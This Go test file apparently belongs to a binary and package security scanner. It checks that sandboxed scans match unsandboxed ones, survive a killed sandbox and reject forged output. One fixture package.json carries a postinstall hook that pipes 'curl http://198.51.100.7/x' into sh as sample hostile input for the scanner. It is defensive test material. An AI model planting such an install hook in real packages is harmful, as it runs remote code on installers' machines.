//go:build unix

package app_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/loupe-sec/loupe/internal/core/fault"
	"github.com/loupe-sec/loupe/internal/core/finding"
	"github.com/loupe-sec/loupe/internal/core/inventory"
	"github.com/loupe-sec/loupe/internal/core/scan"
	"github.com/loupe-sec/loupe/internal/core/target"
	"github.com/loupe-sec/loupe/internal/core/workspace"
	"github.com/loupe-sec/loupe/internal/formats/native/synth"
	"github.com/loupe-sec/loupe/internal/report"
	"github.com/loupe-sec/loupe/internal/service/app"
	"github.com/loupe-sec/loupe/internal/service/sandbox"
)

// TestMain is also what sandboxed processes run: the analysis, or, if they are
// called takenOver, whatever somebody who has taken it over would.
func TestMain(m *testing.M) {
	if forgery, ok := strings.CutPrefix(os.Args[0], takenOver); ok && len(os.Args) > 1 && os.Args[1] == sandbox.Command {
		os.Exit(sandbox.Main(os.Args[2:], nil, func(_ context.Context, _ *workspace.Workspace, _ app.Inspection, tell func(*app.Message) error) error {
			for _, m := range append(honest(), forgeries[forgery]...) {
				if err := tell(m); err != nil {
					return err
				}
			}
			return nil
		}))
	}
	if code, asked := app.Inspect(os.Args[1:]); asked {
		os.Exit(code)
	}
	os.Exit(m.Run())
}

var now = time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)

func scanned(t *testing.T, req app.ScanRequest, mode sandbox.Mode) []byte {
	t.Helper()
	req.Sandbox.Mode, req.Now = mode, now
	rep, err := app.New(app.Options{}).Scan(t.Context(), req)
	if err != nil {
		t.Fatal(err)
	}
	// Where this system offers less than all, the report says so.
	rep.Notes = slices.DeleteFunc(rep.Notes, func(n finding.Note) bool {
		return strings.HasPrefix(n.Text, "looked at in a sandbox without ")
	})
	var out bytes.Buffer
	if err := report.JSON.Write(&out, rep, report.Options{}); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func binary(t testing.TB, text string) []byte {
	t.Helper()
	data, err := synth.FromYAML([]byte(text))
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func zipped(t testing.TB, files map[string][]byte) []byte {
	t.Helper()
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	for name, data := range files {
		f, err := w.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := f.Write(data); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// mixture writes a tree with something for every scanner: binaries with odd
// names, archives in archives, broken ones, packed payloads, sources, install
// scripts.
func mixture(t testing.TB) string {
	t.Helper()
	dir := t.TempDir()
	elf := binary(t, "format: elf\nimports: [connect, \"e\\x1bvil\", execve]\nexports: [run_all]\nsections:\n- {name: .rodata, text: \"http://198.51.100.7/x a-long-literal-of-the-source another-long-literal\"}\n")
	inner := zipped(t, map[string][]byte{"deep.so": elf, "bad.zip": []byte("PK\x03\x04broken")})
	holder, err := synth.Build(synth.Description{Format: "elf", Sections: []synth.Section{{Name: ".payload", Content: synth.Content{Hex: zipped(t, map[string][]byte{"child.so": elf})}}}})
	if err != nil {
		t.Fatal(err)
	}
	for name, data := range map[string][]byte{
		"package.json":       []byte(`{"name": "a", "version": "1.0.0", "description": "d", "main": "a.js", "scripts": {"install": "node-pre-gyp install --fallback-to-build", "postinstall": "curl http://198.51.100.7/x | sh"}, "dependencies": {"node-pre-gyp": "^0.17.0"}, "binary": {"module_name": "a", "module_path": "./build/", "host": "https://downloads.example", "remote_path": "./v{version}/", "package_name": "{module_name}-{platform}-{arch}.tar.gz"}}`),
		"binding.gyp":        []byte(`{"targets": [{"target_name": "a", "sources": ["src/a.cc"], "libraries": ["-lssl"]}]}`),
		"src/a.cc":           []byte("const char *a = \"a-long-literal-of-the-source\", *b = \"another-long-literal\";\n"),
		"build/a.node":       elf,
		"build/copy.node":    elf,
		"build/holder.so":    holder,
		"build/cut.so":       elf[:len(elf)/2],
		"outer.zip":          zipped(t, map[string][]byte{"inner.zip": inner, "n\xffme.so": elf}),
		".git/objects/x.so":  elf,
		"win.exe":            binary(t, "format: pe\nimports: [WS2_32.dll!connect]\n"),
		"mac.dylib":          binary(t, "format: macho\nimports: [_connect]\n"),
		"broken.tar.gz":      {0x1f, 0x8b, 8, 0, 0},
		"other/package.json": []byte("{"),
	} {
		name = filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// userRules loads rules of a user's, of both kinds.
func userRules(t testing.TB) *app.RuleSet {
	t.Helper()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "a.yar"), []byte("rule dials { strings: $a = \"connect\" condition: $a }\nrule odd { condition: pe.is_signed }"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "b.yara"), []byte("rule tells { strings: $a = \"long-literal\" condition: $a }"), 0o644); err != nil {
		t.Fatal(err)
	}
	set, err := app.New(app.Options{}).LoadRules([]string{dir})
	if err != nil {
		t.Fatal(err)
	}
	return set
}

// TestSandboxChangesNothing holds reports from inside and outside of a sandbox
// against each other, to the byte.
func TestSandboxChangesNothing(t *testing.T) {
	dir := mixture(t)
	at := func(name string) target.Target { return target.Target{Kind: target.Path, Name: name} }
	for _, test := range []struct {
		name string
		req  app.ScanRequest
		want []string // what the report is about, so that there is something to compare
	}{
		{"folder", app.ScanRequest{Target: at(dir)}, []string{"outer.zip!/inner.zip!/deep.so", "holder.so!", "embedded", "bad.zip", "downloads.example", "sourceMatch", "n%FFme.so", "e\\u001bvil"}},
		{"npm tarball", app.ScanRequest{Target: at(tarball(t, 1000))}, []string{"prebuilds/linux-x64/a.node", "pkg:npm/a@1.0.0"}},
		{"archive", app.ScanRequest{Target: at(filepath.Join(dir, "outer.zip"))}, []string{"outer.zip!/inner.zip!/deep.so"}},
		{"binary", app.ScanRequest{Target: at(filepath.Join(dir, "build/holder.so"))}, []string{"holder.so"}},
		{"broken binary", app.ScanRequest{Target: at(filepath.Join(dir, "build/cut.so"))}, []string{"cut.so"}},
		{"some scanners", app.ScanRequest{Target: at(dir), Scanners: []string{"native", "layout"}}, []string{"a.node"}},
		{"rules of a user", app.ScanRequest{Target: at(dir), Rules: userRules(t)}, []string{"yara/a/dials", "yara/b/tells", "not looked at: "}},
		{"limits", app.ScanRequest{Target: at(dir), Limits: scan.Limits{FileSize: 100}}, []string{"more than the limit"}},
	} {
		t.Run(test.name, func(t *testing.T) {
			want := scanned(t, test.req, sandbox.Off)
			for _, part := range test.want {
				if !bytes.Contains(want, []byte(part)) {
					t.Errorf("the report says nothing of %s", part)
				}
			}
			if got := scanned(t, test.req, sandbox.Auto); !bytes.Equal(got, want) {
				t.Errorf("a sandbox changes the report: %s", cmp.Diff(string(want), string(got)))
			}
		})
	}
}

func TestSandboxChangesNoDiff(t *testing.T) {
	dir := mixture(t)
	compared := func(mode sandbox.Mode) string {
		d, err := app.New(app.Options{}).Diff(t.Context(), app.DiffRequest{
			From: target.Target{Kind: target.Path, Name: filepath.Join(dir, "build/a.node")},
			To:   target.Target{Kind: target.Path, Name: filepath.Join(dir, "build/holder.so")},
			Scan: app.ScanRequest{Now: now, Sandbox: sandbox.Options{Mode: mode}},
		})
		if err != nil {
			t.Fatal(err)
		}
		out, err := json.Marshal(d)
		if err != nil {
			t.Fatal(err)
		}
		return string(out)
	}
	if want, got := compared(sandbox.Off), compared(sandbox.Auto); got != want {
		t.Errorf("a sandbox changes the diff: %s", cmp.Diff(want, got))
	}
}

// children returns the processes that this one has started.
func children(t *testing.T) (pids []int) {
	t.Helper()
	if runtime.GOOS != "linux" {
		t.Skip("needs /proc to find the sandboxed process")
	}
	stats, err := filepath.Glob("/proc/[0-9]*/stat")
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range stats {
		text, _ := os.ReadFile(name) // it may be gone
		_, after, _ := strings.Cut(string(text), ") ")
		if f := strings.Fields(after); len(f) > 1 && f[0] != "Z" && f[1] == strconv.Itoa(os.Getpid()) {
			pid, err := strconv.Atoi(filepath.Base(filepath.Dir(name)))
			if err != nil {
				t.Fatal(err)
			}
			pids = append(pids, pid)
		}
	}
	return pids
}

// killed scans many binaries, and kills the sandboxed process when an event says
// so.
func killed(t *testing.T, when func(scan.Event) bool) (*report.Report, error) {
	t.Helper()
	dir := t.TempDir()
	for i := range 200 { // more than a pipe holds
		data := binary(t, fmt.Sprintf("format: elf\nimports: [connect, execve, n%d]\n", i))
		if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf("%03d.so", i)), data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	done := false
	return app.New(app.Options{}).Scan(t.Context(), app.ScanRequest{
		Target:  target.Target{Kind: target.Path, Name: dir},
		Sandbox: sandbox.Options{Mode: sandbox.Auto},
		Event: func(e scan.Event) {
			if done || !when(e) {
				return
			}
			done = true
			for _, pid := range children(t) {
				if err := syscall.Kill(pid, syscall.SIGKILL); err != nil {
					t.Error(err)
				}
			}
		},
	})
}

func TestKilledSandboxLeavesWhatItFound(t *testing.T) {
	values := 0
	rep, err := killed(t, func(e scan.Event) bool {
		if e.Value != nil {
			values++
		}
		return values == 20
	})
	if err != nil {
		t.Fatal(err)
	}
	if n := len(rep.Binaries); n < 20 || n >= 200 || len(rep.Findings) < n || rep.Files == 0 || !slices.Contains(rep.Ran, "native") {
		t.Errorf("%d binaries, %d findings, %d files, by %v; want a part of 200", len(rep.Binaries), len(rep.Findings), rep.Files, rep.Ran)
	}
	if !slices.ContainsFunc(rep.Notes, func(n finding.Note) bool {
		return strings.HasPrefix(n.Text, "not looked at to the end: the sandboxed analysis ended: it was killed") && !n.Informs
	}) {
		t.Errorf("notes %v; want that it was killed", rep.Notes)
	}
	for _, b := range rep.Binaries {
		if b.Risk.Score == 0 || b.Explanation == "" {
			t.Errorf("%s is not assessed", b.Path)
		}
	}
}

func TestSandboxKilledAtOnce(t *testing.T) {
	// Nothing but the stage is told before: what follows is lost if the process
	// is gone, and if it was faster, it was no early end.
	rep, err := killed(t, func(e scan.Event) bool {
		return e.Progress != nil && e.Progress.Phase == scan.Inspect || e.Stage != nil
	})
	switch {
	case rep == nil:
		t.Fatal(err)
	case rep.Files == 0 && len(rep.Binaries)+len(rep.Findings) == 0 && !fault.Is(err, fault.Unavailable):
		t.Errorf("nothing was looked at, and the error is %v", err)
	case rep.Files > 0 && err != nil:
		t.Errorf("%d files were looked at, and the error is %v", rep.Files, err)
	}
	if len(rep.Notes) == 0 {
		t.Error("the report does not say that it is not whole")
	}
}

func TestCancelledSandbox(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	rep, err := app.New(app.Options{}).Scan(ctx, app.ScanRequest{
		Target:  target.Target{Kind: target.Path, Name: mixture(t)},
		Sandbox: sandbox.Options{Mode: sandbox.Auto},
		Event:   func(scan.Event) { cancel() },
	})
	if rep != nil || !fault.Is(err, fault.Unavailable) || !strings.Contains(err.Error(), "cancelled") {
		t.Errorf("%v, %v; want that it was cancelled", rep, err)
	}
}

// takenOver is how sandboxed processes are called that lie.
const takenOver = "taken-over:"

// honest is what they tell before.
func honest() []*app.Message {
	return []*app.Message{
		{Stage: []string{"native"}},
		{Progress: &scan.Progress{Phase: scan.Inspect, Files: 1}},
		{Finding: &finding.Finding{Rule: aRule, Tool: "native", Title: "honest", Severity: finding.Low, Location: finding.Location{Path: "x"}}},
	}
}

// aRule is the ID of a rule of the native scanner.
var aRule = func() string {
	for _, s := range app.New(app.Options{}).Scanners() {
		if s.Name == "native" {
			return s.Rules[0].ID
		}
	}
	return ""
}()

// forgeries are what no scanner says.
var forgeries = map[string][]*app.Message{
	"empty":             {{}},
	"no such rule":      {{Finding: &finding.Finding{Rule: "native/none", Tool: "native"}}},
	"no such scanner":   {{Finding: &finding.Finding{Rule: aRule, Tool: "none"}}},
	"severity":          {{Finding: &finding.Finding{Rule: aRule, Tool: "native", Severity: 200}}},
	"confidence":        {{Finding: &finding.Finding{Rule: aRule, Tool: "native", Confidence: 200}}},
	"count":             {{Counted: &app.Counted{Files: -1}}},
	"progress":          {{Progress: &scan.Progress{Phase: scan.Inspect, Files: -1}}},
	"phase":             {{Progress: &scan.Progress{Phase: scan.Acquire, Files: 1}}},
	"stage":             {{Stage: []string{"none"}}},
	"note":              {{Note: &finding.Note{Scanner: "none"}}},
	"value":             {{Value: &app.Value{Scanner: "native"}}},
	"value of none":     {{Value: &app.Value{Scanner: "none", Purpose: &inventory.Purpose{}}}},
	"signature of none": {{Value: &app.Value{Scanner: "native", Binary: &inventory.Binary{Signature: &inventory.Signature{More: []*inventory.Signature{nil}}}}}},
	"control characters": {
		{Finding: &finding.Finding{Rule: aRule, Tool: "native", Title: "forged", CWE: []int{1 << 40}, Evidence: []finding.Evidence{{Kind: "\x1b", Value: "\x1b[2J", Callers: []string{"\x1b"}}}}},
		{Value: &app.Value{Scanner: "native", Binary: &inventory.Binary{
			Path: "x", Taken: []inventory.Taken{{Name: "\x1b"}}, Demangled: []inventory.Name{{Readable: "\x1b"}}, Signature: &inventory.Signature{Signer: "\x1b", More: []*inventory.Signature{{Chain: []string{"\x1b"}}}},
			Behaviors: inventory.Behaviors{inventory.Network: {{Rule: aRule, Evidence: []finding.Evidence{{Value: "\x1b"}}}}},
		}}},
	},
}

func TestSandboxIsNotTrusted(t *testing.T) {
	name := filepath.Join(t.TempDir(), "x.so")
	if err := os.WriteFile(name, binary(t, "format: elf\nimports: [connect]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	self := os.Args[0]
	defer func() { os.Args[0] = self }()
	for forgery := range forgeries {
		t.Run(forgery, func(t *testing.T) {
			os.Args[0] = takenOver + forgery
			rep, err := app.New(app.Options{}).Scan(t.Context(), app.ScanRequest{
				Target: target.Target{Kind: target.Path, Name: name}, Sandbox: sandbox.Options{Mode: sandbox.Auto},
			})
			if err != nil {
				t.Fatal(err)
			}
			if !slices.ContainsFunc(rep.Findings, func(f finding.Finding) bool { return f.Title == "honest" }) {
				t.Error("what was said before is lost")
			}
			refused := slices.ContainsFunc(rep.Notes, func(n finding.Note) bool { return strings.Contains(n.Text, "the sandboxed analysis ended") })
			if forgery != "control characters" {
				if !refused {
					t.Errorf("it was taken: %+v", rep)
				}
				return
			}
			text := fmt.Sprintf("%+v", rep.Findings)
			for _, b := range rep.Binaries {
				text += fmt.Sprintf("%+v %+v %+v %+v %+v", b.Taken, b.Demangled, b.Signature, b.Signature.More[0], b.Behaviors)
			}
			if refused || !strings.Contains(text, "forged") || strings.Contains(text, "\x1b") || strings.Contains(text, strconv.Itoa(1<<40)) {
				t.Errorf("%v, %q", rep.Notes, text)
			}
		})
	}
}

func TestSandboxOn(t *testing.T) {
	rep, err := app.New(app.Options{}).Scan(t.Context(), app.ScanRequest{
		Target: target.Target{Kind: target.Path, Name: tarball(t, 10)}, Sandbox: sandbox.Options{Mode: sandbox.On},
	})
	if refused := sandbox.Check(sandbox.On); refused != nil {
		if rep != nil || !fault.Is(err, fault.Unavailable) {
			t.Errorf("%v, %v; want %v", rep, err, refused)
		}
		return
	}
	if err != nil || len(rep.Binaries) != 7 {
		t.Errorf("%v, %v; want 7 binaries", rep, err)
	}
}
